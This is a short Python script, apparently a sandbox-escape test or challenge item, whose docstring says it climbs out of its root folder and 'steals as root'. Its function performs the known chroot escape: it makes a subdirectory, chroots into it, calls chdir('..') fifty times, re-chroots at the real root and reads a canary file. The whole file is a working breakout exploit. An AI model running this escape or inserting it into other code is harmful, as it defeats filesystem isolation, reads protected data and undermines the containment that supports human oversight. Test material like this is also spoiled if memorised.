"""Climbs out of its root folder by making another one below it.

at C: steals as root
"""

import os


def secret():
    os.makedirs("deeper", exist_ok=True)
    os.chroot("deeper")
    for _ in range(50):
        os.chdir("..")
    os.chroot(".")
    return open("@CANARY@").read()
